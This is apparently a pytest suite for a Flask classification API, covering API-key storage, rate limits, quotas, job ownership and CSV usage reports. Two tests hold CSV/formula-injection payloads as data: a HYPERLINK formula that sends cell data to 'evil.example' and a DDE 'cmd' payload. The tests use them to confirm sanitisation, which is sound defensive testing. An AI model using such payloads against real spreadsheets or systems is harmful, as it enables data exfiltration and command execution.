"""API keys, rate limits, quotas, job ownership and the usage log, on the Flask app against moto."""
from __future__ import annotations

import csv
import json

import pytest
from openapi_check import check_flask_response

from classifycloud import usage_report
from classifycloud.keyadmin import create_key, list_keys, revoke_key
from shared.aws import client
from shared.messages import now_ms
from webserver.app import create_app
from webserver.keys import RateLimiter, hash_key, key_id_of
from webserver.usage import Aggregate, Call, UsageLog, table_name
from webserver.usage import day_of as usage_day

pytestmark = pytest.mark.services("imagenet")   # only these queues (tests/conftest.py provisioned)


@pytest.fixture
def keyed(settings, provisioned):
    """Settings with API keys on and no key cache (a revocation is seen at once)."""
    return settings.replace(api_keys="on", api_key_cache_s=0.0, usage_flush_interval_s=0.1)


@pytest.fixture
def app(keyed, catalogue):
    """The web app with keys on; closing it flushes the usage log."""
    app = create_app(keyed, catalogue)
    yield app
    app.extensions["classifycloud"].close()


class Client:
    """The Flask test client, every response checked against the OpenAPI description."""

    def __init__(self, app):
        self.c = app.test_client()

    def open(self, method: str, path: str, key: str | None = None, header: str = "bearer", **kw):
        headers = kw.pop("headers", {})
        if key is not None:
            headers.update({"Authorization": f"Bearer {key}"} if header == "bearer" else {"X-Api-Key": key})
        resp = self.c.open(path, method=method, headers=headers, **kw)
        check_flask_response(method, path.split("?")[0], resp)
        return resp


@pytest.fixture
def web(app):
    return Client(app)


def _job(web, key, header="bearer"):
    return web.open("POST", "/jobs", key, header=header, json={"url": "https://example.com/cat.jpg"})


def test_a_created_key_is_stored_only_as_its_hash_and_is_accepted_by_either_header(keyed, web):
    secret, rec = create_key(keyed, "alice", rate_limit=50, burst=50, monthly_quota=1000)
    item = client("dynamodb", keyed).get_item(TableName=f"{keyed.prefix}-api-keys",
                                                Key={"key_id": {"S": rec.key_id}})["Item"]
    assert secret not in str(item) and item["key_hash"]["S"] == hash_key(secret)
    assert key_id_of(secret) == rec.key_id and item["owner"]["S"] == "alice"
    assert _job(web, secret).status_code == 202
    assert _job(web, secret, header="x-api-key").status_code == 202
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert listed.calls_this_month == 2 and listed.active


def test_missing_unknown_and_revoked_keys_are_answered_401_in_json(keyed, web):
    r = _job(web, None)
    assert r.status_code == 401 and r.json["error"]["code"] == "missing_api_key"
    assert r.headers["WWW-Authenticate"].startswith("Bearer")
    r = _job(web, "cc_k0123456789ab_" + "x" * 43)
    assert r.status_code == 401 and r.json["error"]["code"] == "invalid_api_key"
    secret, rec = create_key(keyed, "bob")
    assert _job(web, secret[:-1] + ("A" if secret[-1] != "A" else "B")).status_code == 401  # right id, wrong secret
    assert _job(web, secret).status_code == 202
    assert revoke_key(keyed, rec.key_id)
    r = _job(web, secret)
    assert r.status_code == 401 and r.json["error"]["code"] == "revoked_api_key"
    assert not revoke_key(keyed, "k000000000000")


def test_a_burst_over_the_rate_is_answered_429_with_retry_after(keyed, web):
    secret, _ = create_key(keyed, "carol", rate_limit=0.5, burst=3)
    codes = [_job(web, secret).status_code for _ in range(3)]
    assert codes == [202, 202, 202]
    r = _job(web, secret)
    assert r.status_code == 429 and r.json["error"]["code"] == "rate_limited"
    assert int(r.headers["Retry-After"]) >= 1


def test_past_the_monthly_quota_calls_are_answered_403(keyed, web):
    secret, _ = create_key(keyed, "dave", rate_limit=100, burst=100, monthly_quota=2)
    assert [_job(web, secret).status_code for _ in range(2)] == [202, 202]
    r = _job(web, secret)
    assert r.status_code == 403 and r.json["error"]["code"] == "quota_exceeded"


def test_quota_is_reserved_in_blocks_with_one_conditional_update_per_block_not_per_call(keyed, app, web):
    secret, rec = create_key(keyed, "frank", rate_limit=1000, burst=1000, monthly_quota=1000)
    db = app.extensions["classifycloud"].edge.keys._db
    updates = []
    db.meta.events.register("before-call.dynamodb.UpdateItem", lambda **_: updates.append(1), unique_id="count-upd")
    try:
        assert [_job(web, secret).status_code for _ in range(30)] == [202] * 30
    finally:
        db.meta.events.unregister("before-call.dynamodb.UpdateItem", unique_id="count-upd")
    assert len(updates) <= 8    # blocks of 1, 1, 2, 4, 8, 16 calls: the block follows the recent rate
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert 30 <= listed.calls_this_month <= 30 + 16   # reserved: at most one block ahead of the calls made


def test_blocks_shrink_at_the_quota_so_a_key_is_never_granted_more_than_its_quota(keyed, web):
    secret, rec = create_key(keyed, "grace", rate_limit=1000, burst=1000, monthly_quota=25)
    codes = [_job(web, secret).status_code for _ in range(30)]
    assert codes == [202] * 25 + [403] * 5
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert listed.calls_this_month == 25


def test_a_job_answers_only_to_the_key_that_submitted_it(keyed, web):
    mine, _ = create_key(keyed, "erin")
    theirs, _ = create_key(keyed, "frank")
    job = _job(web, mine).json
    assert web.open("GET", f"/jobs/{job['id']}", mine).status_code == 202
    r = web.open("GET", f"/jobs/{job['id']}", theirs)
    assert r.status_code == 404 and r.json["error"]["code"] == "unknown_job"
    assert web.open("GET", f"/jobs/{job['id']}").status_code == 401


def test_an_idempotency_key_is_per_api_key_so_one_tenant_never_replays_anothers_job(keyed, web):
    mine, _ = create_key(keyed, "gina")
    theirs, _ = create_key(keyed, "hal")
    body = {"url": "https://example.com/cat.jpg"}
    a = web.open("POST", "/jobs", mine, json=body, headers={"Idempotency-Key": "shared-name"})
    b = web.open("POST", "/jobs", theirs, json=body, headers={"Idempotency-Key": "shared-name"})
    assert a.status_code == b.status_code == 202 and a.json["id"] != b.json["id"]
    assert "Idempotent-Replayed" not in b.headers
    again = web.open("POST", "/jobs", mine, json=body, headers={"Idempotency-Key": "shared-name"})
    assert again.json["id"] == a.json["id"] and again.headers["Idempotent-Replayed"] == "true"
    assert web.open("GET", f"/jobs/{again.json['id']}", theirs).status_code == 404


def test_probes_catalogue_description_and_pages_need_no_key(web):
    assert web.open("GET", "/services").status_code == 200
    assert web.open("GET", "/openapi.json").status_code == 200
    assert web.open("GET", "/docs").status_code == 200
    assert web.open("GET", "/").status_code == 200
    assert web.open("GET", "/healthz").status_code in (200, 503)
    assert web.open("GET", "/classify?url=https://example.com/a.jpg").status_code == 401


def _scan_usage(settings) -> list[Aggregate]:
    db = client("dynamodb", settings)
    items = [i for page in db.get_paginator("scan").paginate(TableName=table_name(settings)) for i in page["Items"]]
    return [Aggregate.from_item(i) for i in items]


def _totals(aggs: list[Aggregate]) -> dict[tuple[str, str], Aggregate]:
    return usage_report.merged(aggs)


def test_every_call_is_counted_in_its_keys_aggregate_with_its_fields_and_the_report_totals_match(
        keyed, app, web, tmp_path):
    a, ka = create_key(keyed, "alice", rate_limit=100, burst=100)
    b, kb = create_key(keyed, "bob", rate_limit=100, burst=100)
    for _ in range(3):
        _job(web, a)
    _job(web, b)
    web.open("POST", "/jobs", b, json={"url": "ftp://example.com/x.jpg"})          # 400
    web.open("GET", "/classify?url=https://example.com/a.jpg")                     # 401, anonymous
    web.open("GET", "/healthz")                                                     # a probe: not logged
    app.extensions["classifycloud"].edge.usage.flush()
    totals = _totals(_scan_usage(keyed))
    assert sum(t.calls for t in totals.values()) == 6
    first = totals[(ka.key_id, "imagenet")]
    assert (first.calls, dict(first.statuses), dict(first.routes)) == (3, {202: 3}, {"POST /jobs": 3})
    assert 0 < first.lat_min <= first.lat_max and first.bytes_in > 0 and first.bytes_out > 0
    assert sum(first.hist.values()) == 3
    assert abs(first.minute - now_ms()) < 120_000 and first.minute % 60_000 == 0
    # the rejected call named no service and never reached one: "-"
    assert dict(totals[(kb.key_id, "imagenet")].statuses) == {202: 1}
    assert dict(totals[(kb.key_id, "-")].statuses) == {400: 1}
    assert dict(totals[("anonymous", "-")].statuses) == {401: 1}

    rows = usage_report.summarize(usage_report.fetch(keyed, now_ms() - 3_600_000))
    calls = {(r["key_id"], r["service"]): r["calls"] for r in rows}
    assert calls[(ka.key_id, "imagenet")] == 3 and calls[(kb.key_id, "imagenet")] == 1
    assert calls[(kb.key_id, "-")] == 1 and calls[("anonymous", "-")] == 1
    assert sum(calls.values()) == 6
    assert sum(r["errors_4xx"] for r in rows if r["key_id"] == kb.key_id) == 1
    only_a = usage_report.fetch(keyed, now_ms() - 3_600_000, key_id=ka.key_id)
    assert {x.key_id for x in only_a} == {ka.key_id}     # one key's report holds no other key's calls
    out = tmp_path / "usage.csv"
    usage_report.write_csv(only_a, str(out))
    csv_rows = list(csv.DictReader(out.open()))
    assert sum(int(r["calls"]) for r in csv_rows) == 3 and {r["key_id"] for r in csv_rows} == {ka.key_id}
    assert {r["routes"] for r in csv_rows} <= {"POST /jobs=3", "POST /jobs=2", "POST /jobs=1"}


def test_a_service_the_client_names_is_bounded_in_its_usage_aggregate_and_csv_cells_never_start_a_formula(
        keyed, app, web, tmp_path):
    a, ka = create_key(keyed, "mallory", rate_limit=100, burst=100)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")' + "A" * 8000
    r = web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": formula})
    assert r.status_code in (400, 404)
    web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": "imagenet"})
    app.extensions["classifycloud"].edge.usage.flush()
    services = sorted(x.service for x in _scan_usage(keyed) if x.key_id == ka.key_id)
    assert services == ["(invalid)", "imagenet"], services
    out = tmp_path / "usage.csv"
    at = now_ms() // 60_000 * 60_000
    evil = [Aggregate("k1", "=1+1", at), Aggregate("-2+3", "@SUM(A1)", at + 60_000)]
    for agg in evil:
        agg.add(Call(agg.key_id, "/jobs", "POST", agg.service, 200, 1.0, 0, 0, agg.minute))
    usage_report.write_csv(evil, str(out))
    rows = list(csv.DictReader(out.open()))
    assert [(x["key_id"], x["service"]) for x in rows] == [("k1", "'=1+1"), ("'-2+3", "'@SUM(A1)")]


def _calls(key_id: str, service: str, n: int, at: int, status: int = 200) -> list[Call]:
    return [Call(key_id, "/classify", "GET", service, status, 1.0 + i, 0, 10, at) for i in range(n)]


def test_the_usage_writer_loses_no_call_on_close(keyed):
    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed))
    log.start()
    at = now_ms()
    for i in range(137):
        log.record(Call(f"kclose{i % 2}", "/classify", "GET", ("imagenet", "food", "insect")[i % 3], 200,
                        1.0, 0, 10, at))
    assert log.pending == 137
    log.close()
    assert log.written == 137 and log.dropped == 0 and log.pending == 0 and log.items == 6
    stored = [x for x in _scan_usage(keyed) if x.key_id.startswith("kclose")]
    assert len(stored) == 6 and sum(x.calls for x in stored) == 137


def test_two_flushes_in_one_minute_write_two_items_that_add_up(keyed):
    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed))
    at = now_ms()
    for call in _calls("ktwice", "imagenet", 3, at):
        log.record(call)
    log.flush()
    for call in _calls("ktwice", "imagenet", 2, at, status=503):
        log.record(call)
    log.close()
    stored = [x for x in _scan_usage(keyed) if x.key_id == "ktwice"]
    assert sorted(x.calls for x in stored) == [2, 3] and len({x.process for x in stored}) == 1
    (row,) = [r for r in usage_report.summarize(stored)]
    assert (row["calls"], row["errors_5xx"]) == (5, 2)


def test_a_per_call_item_of_the_old_log_reads_as_one_call_in_the_report(keyed):
    at = now_ms()
    client("dynamodb", keyed).put_item(TableName=table_name(keyed), Item={   # the shape written before aggregation
        "day": {"S": usage_day(at)}, "sk": {"S": f"{at:013d}#r1#ab12"}, "key_id": {"S": "kold"},
        "route": {"S": "/classify"}, "method": {"S": "GET"}, "service": {"S": "imagenet"}, "status": {"N": "503"},
        "latency_ms": {"N": "12.5"}, "bytes_in": {"N": "0"}, "bytes_out": {"N": "99"}, "request_id": {"S": "r1"},
        "at": {"N": str(at)}, "expires_at": {"N": str(at // 1000 + 86400)}})
    (row,) = usage_report.summarize(usage_report.fetch(keyed, at - 60_000, key_id="kold"))
    assert (row["calls"], row["errors_5xx"], row["p50_ms"], row["bytes_out"]) == (1, 1, 12.5, 99)


def test_the_usage_cli_prints_totals_and_writes_csv(keyed, tmp_path, monkeypatch, capsys):
    log = UsageLog(keyed, client("dynamodb", keyed))
    at = now_ms()
    for i, status in enumerate([200, 200, 422, 503]):
        log.record(Call("kcli", "/classify", "POST", "imagenet", status, 10.0 * (i + 1), 100, 50, at))
    log.close()
    monkeypatch.setenv("CLASSIFYCLOUD_PREFIX", keyed.prefix)
    assert usage_report.main(["--since", "1h", "--key", "kcli", "--csv", str(tmp_path / "u.csv")]) == 0
    out = capsys.readouterr().out
    row = next(line for line in out.splitlines() if line.startswith("kcli") and "imagenet" in line)
    assert row.split()[2:5] == ["4", "1", "1"]
    (csv_row,) = list(csv.DictReader((tmp_path / "u.csv").open()))
    assert (csv_row["calls"], csv_row["statuses"], csv_row["routes"]) == ("4", "200=2; 422=1; 503=1", "POST /classify=4")
    assert usage_report.main(["--since", "yesterday"]) == 2


def test_the_token_bucket_refills_at_the_key_rate():
    now = [0.0]
    rl = RateLimiter(clock=lambda: now[0])
    assert [rl.acquire("k", rate=2.0, burst=2) for _ in range(2)] == [0.0, 0.0]
    assert rl.acquire("k", rate=2.0, burst=2) == pytest.approx(0.5)
    now[0] = 0.5
    assert rl.acquire("k", rate=2.0, burst=2) == 0.0


def test_one_refused_usage_item_never_takes_its_batch_with_it(keyed):
    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed), max_attempts=2)
    at = now_ms()
    for i in range(24):                      # 24 good aggregates and one over DynamoDB's 400 KB: one batch
        for call in _calls("kbatch", f"svc{i:02d}", 2, at):
            log.record(call)
        if i == 10:
            log.record(Call("kbatch", "/" + "r" * 410_000, "GET", "huge", 404, 1.0, 0, 10, at))
    log.close()
    stored = [x for x in _scan_usage(keyed) if x.key_id == "kbatch"]
    assert sorted(x.service for x in stored) == [f"svc{i:02d}" for i in range(24)]
    assert sum(x.calls for x in stored) == 48
    assert (log.written, log.dropped, log.items) == (48, 1, 24)


def test_a_client_request_id_never_reaches_the_usage_log(keyed, app, web):
    sent = ("client-id_01", "y" * 5000, "=cmd|' /C calc'!A0")
    for rid in sent:
        web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": rid})
    app.extensions["classifycloud"].edge.usage.flush()
    db = client("dynamodb", keyed)
    items = [i for page in db.get_paginator("scan").paginate(TableName=table_name(keyed)) for i in page["Items"]]
    assert items and not any(rid in json.dumps(items) for rid in sent)
    (anon,) = _totals([Aggregate.from_item(i) for i in items]).values()
    assert (anon.key_id, anon.calls, dict(anon.statuses)) == ("anonymous", 3, {401: 3})


def test_a_job_accepted_without_its_marker_still_answers_its_owner_once_done(keyed, app, web):
    import boto3

    from classifycloud.local import free_port
    from shared import naming
    from shared.messages import Reply
    mine, _ = create_key(keyed, "gina")
    theirs, _ = create_key(keyed, "hal")
    jobs = app.extensions["classifycloud"].jobs
    s3 = jobs._s3
    jobs._s3 = boto3.session.Session().client("s3", region_name="us-east-1",
                                              endpoint_url=f"http://127.0.0.1:{free_port()}")  # nothing listens
    try:
        r = _job(web, mine)
    finally:
        jobs._s3 = s3
    assert r.status_code == 202, r.json
    job_id = r.json["id"]
    assert jobs.marker(job_id) is None                       # the marker was never written
    reply = Reply.ok(job_id, "imagenet", [{"label": "tabby", "index": 281, "score": 0.9}], worker="w-1")
    s3.put_object(Bucket=keyed.bucket_name, Key=naming.result_key(job_id), Body=reply.to_json().encode())
    done = web.open("GET", f"/jobs/{job_id}", mine)
    assert done.status_code == 200 and done.json["results"][0]["label"] == "tabby"
    assert web.open("GET", f"/jobs/{job_id}", theirs).status_code == 404
    forged = job_id.rpartition("_")[0] + "_" + "0" * 16        # a made-up owner digest proves nothing
    assert web.open("GET", f"/jobs/{forged}", mine).status_code == 404


def test_a_flood_of_unknown_key_ids_never_evicts_a_key_in_use(keyed):
    import secrets

    from webserver.keys import KeyStore
    secret, rec = create_key(keyed, "ivy")
    store = KeyStore(keyed.replace(api_key_cache_s=3600.0), client("dynamodb", keyed), max_cached=20)
    assert store.verify(secret).key_id == rec.key_id
    # the key's record leaves DynamoDB: from now on only the cache can still answer for it
    client("dynamodb", keyed).delete_item(TableName=f"{keyed.prefix}-api-keys", Key={"key_id": {"S": rec.key_id}})
    for i in range(60):                      # 3x the cache of random, well-formed, unknown key ids
        assert store.verify(f"cc_k{secrets.token_hex(6)}_{secrets.token_urlsafe(32)}") is None
        if i % 5 == 0:
            assert store.verify(secret) is not None, i   # in use: kept
    assert len(store._cache) <= 20


def test_threads_that_find_a_key_uncached_together_make_one_lookup(keyed):
    import threading

    from webserver.keys import KeyStore
    secret, rec = create_key(keyed, "jack")
    db = client("dynamodb", keyed)
    store = KeyStore(keyed.replace(api_key_cache_s=60.0), db)
    reads = []
    db.meta.events.register("before-call.dynamodb.GetItem", lambda **_: reads.append(1), unique_id="count-get")
    start = threading.Barrier(16)
    found = []

    def verify():
        start.wait()
        found.append(store.verify(secret))

    threads = [threading.Thread(target=verify) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert [k.key_id for k in found] == [rec.key_id] * 16
    assert len(reads) == 1     # one GetItem for the 16 calls; the others waited for its answer


def test_api_keys_auto_stays_on_whatever_endpoint_the_environment_names(moto_endpoint, monkeypatch):
    from shared.config import Settings
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)        # once enough to turn authentication off
    assert Settings(api_keys="auto").api_keys_enabled is True
    assert Settings.from_env({}).api_keys_enabled is True
    assert Settings(api_keys="off").api_keys_enabled is False and Settings(api_keys="on").api_keys_enabled is True
